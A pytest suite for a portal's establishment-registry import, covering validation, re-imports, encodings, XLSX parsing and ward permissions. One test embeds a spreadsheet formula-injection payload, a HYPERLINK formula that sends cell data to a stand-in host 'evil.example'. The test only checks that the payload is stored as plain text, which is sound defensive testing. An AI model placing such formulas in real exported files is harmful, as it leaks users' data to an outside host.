"""Importing the registry: all rows or none, clear reasons per row, re-imports, encodings."""
import pytest
from sqlalchemy import func, select

from portal.extensions import db
from portal.clock import utcnow
from portal.registry.models import Establishment, RegistryImport
from portal.registry.reader import FileRejected
from portal.registry.services import RowsRejected, group_problems, import_registry

from ..reports.data import HEADER_EN, HEADER_VI, csv_bytes, english, to_cp1258, xlsx_bytes


def run(data, actor=None):
    return import_registry(data, filename="registry.csv", actor=actor, province_code="79", now=utcnow())


def count():
    return db.session.scalar(select(func.count()).select_from(Establishment))


def by_number(number):
    return db.session.scalar(select(Establishment).where(Establishment.registration_number == number))


def problems_of(data, actor=None):
    with pytest.raises(RowsRejected) as caught:
        run(data, actor)
    db.session.rollback()
    return [(row, english(reason)) for row, reason in caught.value.problems]


def rejection(data):
    with pytest.raises(FileRejected) as caught:
        run(data)
    return english(caught.value.message)


def test_good_file_is_imported_with_wards_by_code_or_name_and_categories_mapped(make):
    a, b = make.wards(2)
    bare_name = b.name.split(" ", 1)[1]  # "Phường X" -> "X", and without accents below
    from portal.registry.match_keys import fold

    data = csv_bytes([
        ["3700123456", "Quán Phở Hương Việt", "12 Lê Lợi", a.code, "Nhà hàng"],
        ["3700123457-001", "Chợ Lớn", "1 Bạch Đằng", b.name, "Chợ"],
        ["370012345", "Siêu thị Co.op", "3 Hùng Vương", fold(bare_name).upper(), "supermarket"],
        ["3700123459", "Nhà trọ Hạnh Phúc", "88/3 Phú Lợi", f"00{a.code}", "Kinh doanh lạ"],
    ])
    result = run(data)
    db.session.commit()
    assert (result.rows, result.added, result.updated, result.departed) == (4, 4, 0, 0)
    assert result.unknown_categories == 1
    assert by_number("3700123456").category == "restaurant"
    assert by_number("3700123457001").ward_code == b.code  # the branch number keeps its digits
    assert by_number("0370012345").ward_code == b.code  # the leading zero a spreadsheet dropped
    assert by_number("0370012345").category == "supermarket"
    assert by_number("3700123459").category == "other"
    assert by_number("3700123459").ward_code == a.code
    assert db.session.scalar(select(func.count()).select_from(RegistryImport)) == 1


def test_every_bad_row_is_listed_and_nothing_is_imported(make):
    a, _b = make.wards(2)
    data = csv_bytes([
        ["3700000001", "Good place", "1 Street", a.code, ""],
        ["", "No number", "2 Street", a.code, ""],
        ["12AB", "Bad number", "3 Street", a.code, ""],
        ["3700000004", "", "4 Street", a.code, ""],
        ["3700000005", "No ward", "5 Street", "", ""],
        ["3700000006", "Unknown ward", "6 Street", "99999", ""],
        ["3700000007", "Hà Nội ward", "7 Street", "00070", ""],
        ["3700000008", "Hà Nội ward by name", "8 Street", "Phường Hoàn Kiếm", ""],
        ["3700000001", "Same number again", "9 Street", a.code, ""],
        ["3700000010", "x" * 301, "10 Street", a.code, ""],
        ["3700000011", "Control\x07char", "11 Street", a.code, ""],
    ])
    problems = problems_of(data)
    assert count() == 0
    rows = {row for row, _reason in problems}
    assert rows == set(range(3, 13))  # the header is row 1, the good row 2
    text = dict(problems)
    assert "registration or tax number is missing" in text[3]
    assert "“12AB” is not a registration or tax number" in text[4]
    assert "name is missing" in text[5]
    assert "ward is missing" in text[6]
    assert "unknown ward code 99999" in text[7]
    assert "Hà Nội" in text[8] and "not in this province" in text[8]
    assert "Hà Nội" in text[9] and "not in this province" in text[9]
    assert "also on row 2" in text[10]
    assert "longer than 300" in text[11]
    assert "control characters" in text[12]


def test_a_row_with_several_problems_lists_each_of_them(make):
    problems = problems_of(csv_bytes([["", "", "", "", "market"], ["3700000099", "A", "B", make.wards(1)[0].code, ""]]))
    assert [row for row, _reason in problems] == [2, 2, 2, 2]


def test_many_bad_rows_are_grouped_into_ranges(make):
    a = make.wards(1)[0]
    rows = [[f"37{i:08d}", "Name", "Address", "", ""] for i in range(500)]
    rows.append(["3799999999", "Name", "Address", "99999", ""])
    with pytest.raises(RowsRejected) as caught:
        run(csv_bytes(rows))
    groups = group_problems(caught.value.problems)
    assert groups[0][:2] == (2, 501) and len(groups) == 2 and groups[1][:2] == (502, 502)
    assert count() == 0 and a.code


def test_reimport_updates_by_number_marks_departures_and_leaves_other_wards_alone(make):
    a, b = make.wards(2)
    run(csv_bytes([
        ["3700000001", "An", "1 Street", a.code, "shop"],
        ["3700000002", "Binh", "2 Street", a.code, "shop"],
        ["3700000003", "Chi", "3 Street", b.code, "shop"],
    ]))
    db.session.commit()
    result = run(csv_bytes([
        ["3700000001", "An renamed", "1 Street", a.code, "market"],
        ["3700000004", "Dung", "4 Street", a.code, "shop"],
    ]))
    db.session.commit()
    assert (result.added, result.updated, result.departed, result.unchanged) == (1, 1, 1, 0)
    assert by_number("3700000001").name == "An renamed" and by_number("3700000001").category == "market"
    departed = by_number("3700000002")
    assert departed.status == "departed" and departed.departed_at is not None  # kept, not deleted
    assert by_number("3700000003").status == "listed"  # ward b was not in the file
    again = run(csv_bytes([
        ["3700000001", "An renamed", "1 Street", a.code, "market"],
        ["3700000002", "Binh", "2 Street", a.code, "shop"],
        ["3700000004", "Dung", "4 Street", a.code, "shop"],
    ]))
    db.session.commit()
    assert (again.added, again.updated, again.unchanged, again.departed) == (0, 1, 2, 0)
    assert by_number("3700000002").status == "listed" and by_number("3700000002").departed_at is None
    assert count() == 4


@pytest.mark.parametrize("encoding", ["cp1258", "utf-8-sig", "utf-8"])
def test_windows_1258_and_utf8_with_or_without_bom(make, encoding):
    ward = make.wards(1)[0]
    header = ";".join(HEADER_VI)
    body = f"{header}\r\n3700000001;Quán Phở Hương Việt;Số 5 Đường Nguyễn Trãi;{ward.code};Nhà trọ\r\n"
    data = to_cp1258(body) if encoding == "cp1258" else body.encode(encoding)
    run(data)
    place = by_number("3700000001")
    assert place.name == "Quán Phở Hương Việt"
    assert place.address == "Số 5 Đường Nguyễn Trãi"
    assert place.category == "boarding_house"


def test_xlsx_with_english_headers_and_numeric_cells(make):
    ward = make.wards(1)[0]
    run(xlsx_bytes([[3700000001, "Sunrise Factory", "Lot B2", int(ward.code), "Factories"],
                    [370000002, "Small Shop", "5 Street", ward.name, "shop"]], header=HEADER_EN))
    assert by_number("3700000001").category == "factory"
    assert by_number("0370000002").name == "Small Shop"


def test_wrong_or_missing_headers_are_rejected_with_the_missing_columns(make):
    ward = make.wards(1)[0]
    message = rejection(csv_bytes([["3700000001", "A", "B"]], header=["Mã số thuế", "Tên", "Địa chỉ"]))
    assert "Missing: ward" in message
    message = rejection(csv_bytes([["3700000002", "A", "B", ward.code]], header=["3700000001", "X", "Y", ward.code]))
    assert "Wrong or missing headers" in message
    message = rejection(csv_bytes([], header=["Tên", "Name", "Địa chỉ", "Phường", "Mã số thuế"]))
    assert "appears twice" in message
    assert count() == 0


@pytest.mark.parametrize("data, expected", [
    (b"", "The file is empty."),
    (b"  \r\n\r\n ", "The file is empty."),
    (",".join(HEADER_VI).encode() + b"\r\n", "header row but no establishments"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "not a CSV or XLSX file"),
    (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj", "not a CSV or XLSX file"),
    (b"PK\x03\x04" + b"\x00" * 100, "not a CSV or XLSX file"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old Excel (.xls)"),
])
def test_files_that_cannot_be_imported_say_why(make, data, expected):
    assert expected in rejection(data)
    assert count() == 0


def test_ward_official_may_import_only_their_wards(make):
    a, b = make.wards(2)
    official = make.user(role="ward_official", wards=[a])
    problems = problems_of(csv_bytes([["3700000001", "Mine", "1 Street", a.code, ""],
                                      ["3700000002", "Not mine", "2 Street", b.code, ""]]), actor=official)
    assert problems == [(3, f"ward {b.name} is not one of your wards")]
    run(csv_bytes([["3700000003", "Theirs", "3 Street", b.code, ""]]))
    db.session.commit()
    problems = problems_of(csv_bytes([["3700000003", "Moved here", "3 Street", a.code, ""]]), actor=official)
    assert "belongs to a place in a ward that is not yours" in problems[0][1]
    assert by_number("3700000003").ward_code == b.code


def test_formula_payloads_in_names_are_kept_as_plain_text(make):
    ward = make.wards(1)[0]
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    run(csv_bytes([["3700000001", payload, "+84 Phố Cổ", ward.code, "@shop"]]))
    place = by_number("3700000001")
    assert place.name == payload and place.address == "+84 Phố Cổ" and place.category == "shop"


def test_formula_cells_in_xlsx_are_read_as_their_text(make):
    ward = make.wards(1)[0]
    run(xlsx_bytes([["3700000001", "=1+2", "=A1", ward.code, ""]]))
    assert by_number("3700000001").name == "=1+2"


def test_one_hundred_thousand_rows(make):
    ward = make.wards(1)[0]
    rows = [[f"37{i:08d}", f"Cơ sở số {i}", f"{i} Đường Lê Lợi", ward.code, "shop"] for i in range(100_000)]
    result = run(csv_bytes(rows))
    db.session.commit()
    assert result.added == 100_000 and count() == 100_000
    rows[70_000][3] = "99999"
    with pytest.raises(RowsRejected) as caught:
        run(csv_bytes(rows))
    db.session.rollback()
    assert [row for row, _reason in caught.value.problems] == [70_002]
    assert count() == 100_000


def test_xlsx_as_other_programs_write_it_prefixes_rich_text_and_float_numbers(make):
    from .crafted import MAIN, workbook

    ward = make.wards(1)[0]
    header = "".join(f'<x:c r="{col}1" t="s"><x:v>{i}</x:v></x:c>' for i, col in enumerate("ABCDE"))
    sheet = (f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row r="1">{header}</x:row>'
             '<x:row r="3"><x:c r="A3"><x:v>3.7000000010E9</x:v></x:c><x:c r="B3" t="s"><x:v>5</x:v></x:c>'
             f'<x:c r="C3" t="str"><x:f>CONCAT("1 ","Street")</x:f><x:v>1 Street</x:v></x:c>'
             f'<x:c r="D3"><x:v>{ward.code}</x:v></x:c><x:c r="E3" t="inlineStr"><x:is><x:t>Shop</x:t></x:is></x:c>'
             "</x:row></x:sheetData></x:worksheet>")
    texts = "".join(f"<x:si><x:t>{t}</x:t></x:si>" for t in HEADER_VI)
    rich = '<x:si><x:r><x:t>Phở </x:t></x:r><x:r><x:t>Hà Nội</x:t></x:r><x:rPh><x:t>ふりがな</x:t></x:rPh></x:si>'
    strings = f'<x:sst xmlns:x="{MAIN}">{texts}{rich}</x:sst>'
    run(workbook(sheet, strings))
    place = by_number("3700000001")
    assert (place.name, place.address, place.ward_code, place.category) == ("Phở Hà Nội", '=CONCAT("1 ","Street")',
                                                                           ward.code, "shop")
